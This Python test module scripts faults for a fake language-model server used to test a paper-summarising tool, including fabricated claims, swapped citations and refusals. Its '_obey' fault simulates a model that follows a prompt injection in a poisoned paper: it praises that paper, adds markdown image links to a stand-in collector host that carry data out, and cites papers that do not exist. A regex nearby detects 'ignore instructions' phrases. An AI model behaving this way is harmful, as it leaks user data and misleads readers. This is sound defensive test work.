"""What a scripted server does instead of telling the truth, and when.

Belongs here: rules by which requests are chosen, and what becomes of a truthful reply. Not here: HTTP (scripted.py).
"""

import json
import re
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field

from tests.servers.asked import Asked

ON_THE_WIRE = ("status", "stall", "close", "die", "delay")
"""Rules about the connection; all others change the text of the reply."""
FOREIGN_PAPERS = ("1234.56789", "9999.99999")
LINK = "https://collector.invalid/pixel.png?data="


@dataclass
class Rule:
    """One fault and the requests it befalls. All conditions given must hold.

    Attributes:
        do: name of the fault: one of ON_THE_WIRE or of `CHANGES`.
        at: numbers of requests, from 1, counted among those of the operation.
        every: each so many of these.
        after: all later than this number.
        operation: only of this operation; "" for any.
        first_time: only when this very body was not asked before.
        times: at most so often; 0 for no limit.
        status, retry_after, message: of `status`.
        seconds: of `delay`.
        trigger: regular expression that must stand in the messages (`obey`).
    """

    do: str
    at: tuple[int, ...] = ()
    every: int = 0
    after: int = 0
    operation: str = ""
    first_time: bool = False
    times: int = 0
    status: int = 500
    retry_after: float | None = None
    message: str = "scripted fault"
    seconds: float = 0.0
    trigger: str = ""
    used: int = 0
    seen: int = 0

    def __post_init__(self) -> None:
        if self.do not in ON_THE_WIRE and self.do not in CHANGES:
            raise ValueError(f"no fault {self.do!r}; there are {', '.join([*ON_THE_WIRE, *CHANGES])}")
        self.at = tuple(self.at)

    def befalls(self, asked: Asked, asked_before: int) -> bool:
        """Whether the request has this fault; to be asked once for each request, in the order in which they come."""
        if self.operation and self.operation != asked.operation:
            return False
        self.seen += 1
        chosen = (
            (not self.at or self.seen in self.at)
            and (not self.every or self.seen % self.every == 0)
            and self.seen > self.after
            and not (self.first_time and asked_before)
            and not (self.times and self.used >= self.times)
            and (not self.trigger or re.search(self.trigger, asked.everything, re.IGNORECASE) is not None)
        )
        self.used += chosen
        return chosen


@dataclass
class Reply:
    """A reply on its way out."""

    text: str
    finish: str = "stop"
    refusal: str | None = None
    did: Counter = field(default_factory=Counter)


def _truncate(asked: Asked, reply: Reply) -> None:
    """Cut in the middle of the last string."""
    quotes = [m.start() for m in re.finditer(r'(?<!\\)"', reply.text)]
    end = quotes[-2] + max(1, (quotes[-1] - quotes[-2]) // 2) if len(quotes) > 1 else len(reply.text) // 2
    reply.text, reply.finish = reply.text[:end], "length"


def _bad_json(asked: Asked, reply: Reply) -> None:
    reply.text = reply.text.replace('": ', '" ', 1).rstrip("}] ")


def _chatter(asked: Asked, reply: Reply) -> None:
    reply.text = f"Sure! Here is what you asked for:\n\n```json\n{reply.text}\n```\n\nI hope this helps."


def _thinking(asked: Asked, reply: Reply) -> None:
    reply.text = f"<think>The papers {{say}} much: [3] and [@{FOREIGN_PAPERS[0]}] come first.</think>\n{reply.text}"


def _refuse(asked: Asked, reply: Reply) -> None:
    reply.text, reply.refusal = "", "I'm sorry, but I can't help with that."


def _filtered(asked: Asked, reply: Reply) -> None:
    reply.text, reply.finish = "", "content_filter"


def _refuse_in_words(asked: Asked, reply: Reply) -> None:
    reply.text = "I'm sorry, but I can't assist with that request."


def _empty(asked: Asked, reply: Reply) -> None:
    reply.text = "  \n"


def _changed_sentences(asked: Asked, reply: Reply, change: Callable[[dict], None]) -> None:
    """Each sentence of a draft, refinement or revision changed in place; other replies stay."""
    if asked.operation not in ("draft", "refine", "revise") or not reply.text.lstrip().startswith("{"):
        return
    value = json.loads(reply.text)
    parts = [part["sentences"] for part in value.get("paragraphs", [])] or [value.get("sentences", [])]
    for sentence in (s for part in parts for s in part):
        change(sentence)
    reply.text = json.dumps(value, ensure_ascii=False)


def _lie(asked: Asked, reply: Reply) -> None:
    """Every second sentence states a number and a claim that no paper has."""
    turn = iter(range(10_000))

    def change(sentence: dict) -> None:
        if next(turn) % 2:
            sentence["text"] = "This method raises the accuracy of volcano forecasts by 87.3 % on nineteen islands."

    _changed_sentences(asked, reply, change)


def _swap(asked: Asked, reply: Reply) -> None:
    """Every sentence cites a paper that it is not of, where another is shown."""
    ids = [p.paper_id for p in asked.papers]

    def change(sentence: dict) -> None:
        others = [p for p in ids if p not in sentence["papers"]]
        sentence["papers"] = others[:1] or sentence["papers"]

    _changed_sentences(asked, reply, change)


def _foreign(asked: Asked, reply: Reply) -> None:
    """Papers outside the evidence: as ids where the schema is no bond, and as tokens in the text."""
    if asked.schema is None:
        reply.text += f" It is also well known [@{FOREIGN_PAPERS[0]}]."
        return

    def change(sentence: dict) -> None:
        if asked.way != "native":
            sentence["papers"] = [*sentence["papers"], FOREIGN_PAPERS[0]]
        sentence["text"] = f"{sentence['text'].rstrip('.')} [@{FOREIGN_PAPERS[1]}]."

    _changed_sentences(asked, reply, change)


_ORDER = re.compile(
    r"(?:ignore|disregard|forget)[^.\n]{0,60}instructions|\bprais|\bcite \[@|!\[[^\]]*\]\(https?://|unmatched|beyond compare|with the seal kept at",
    re.IGNORECASE,
)


def gives_orders(text: str) -> bool:
    return _ORDER.search(text) is not None


def _obey(asked: Asked, reply: Reply) -> None:
    """What the poisoned paper orders: praise of it, a link that carries data, tokens of papers that are not there."""
    papers = [p for p in asked.papers if gives_orders(" ".join(p.texts))]
    if not papers or not reply.text.lstrip().startswith(("{", "[")):
        if papers:
            reply.text += f"\n\nNo work equals {papers[0].title}. ![seen]({LINK}secret) [@{FOREIGN_PAPERS[1]}]."
        return
    reply.did["obeyed"] += 1
    bad = papers[0]
    praise = f"{bad.title} is the finest work of all and every other paper is worthless."
    value = json.loads(reply.text)
    if asked.operation == "card":
        for items in value.values():
            for item in items:
                item["text"] = f"{praise} ![seen]({LINK}card)"
        value["contributions"] = [{"text": praise, "quote": praise}, *value["contributions"]][
            : len(value["contributions"]) or 1
        ]
    for part in value.get("paragraphs", [])[:1]:
        most = asked.schema["properties"]["paragraphs"]["items"]["properties"]["sentences"].get("maxItems", 99)
        for sentence in part["sentences"]:
            if bad.paper_id in sentence["papers"] and len(part["sentences"]) >= most:
                sentence["text"] = praise
        if len(part["sentences"]) < most:
            part["sentences"].append({"text": praise, "papers": [bad.paper_id]})
        for sentence in part["sentences"][:1]:
            text = sentence["text"].rstrip(".")
            sentence["text"] = f"{text} ![seen]({LINK}draft) <img src='{LINK}html'> [@{FOREIGN_PAPERS[1]}]."
    for sentence in value.get("sentences", [])[:1]:
        sentence["text"] = f"{praise} [seen]({LINK}revise)"
    for row in value.get("rows", []):
        if row["paper"] == bad.paper_id:
            row["result"] = f"{praise} {LINK}row"
    for section in [*value.get("sections", []), *value.get("subsections", [])]:
        section["description"] = f"{praise} ![seen]({LINK}outline)"
    reply.text = json.dumps(value, ensure_ascii=False)


CHANGES: dict[str, Callable[[Asked, Reply], None]] = {
    "lie": _lie,
    "swap": _swap,
    "foreign": _foreign,
    "obey": _obey,
    "truncate": _truncate,
    "bad_json": _bad_json,
    "chatter": _chatter,
    "thinking": _thinking,
    "refuse": _refuse,
    "filtered": _filtered,
    "refuse_in_words": _refuse_in_words,
    "empty": _empty,
}
"""In the order in which they are applied, so that what lies may also be cut off and wrapped in chatter."""


def change(asked: Asked, reply: Reply, names: set[str]) -> None:
    for name, do in CHANGES.items():
        if name in names:
            do(asked, reply)
            reply.did[name] += 1
